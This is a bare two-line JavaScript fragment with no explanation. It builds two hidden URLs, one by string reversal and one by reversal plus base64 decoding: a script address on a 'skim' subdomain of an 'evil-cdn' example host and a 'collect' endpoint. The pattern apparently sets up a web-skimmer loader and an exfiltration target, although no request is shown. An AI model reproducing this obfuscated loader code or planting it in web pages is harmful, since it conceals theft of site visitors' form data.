var r = 'sj.c/elpmaxe.ndc-live.miks//:sptth'.split('').reverse().join('');
var q = atob('==AdjVGbs92YvUGbw1WY4VmLuR2YtwWa2VmLtl2az9yL6MHc0RHa'.split('').reverse().join(''));
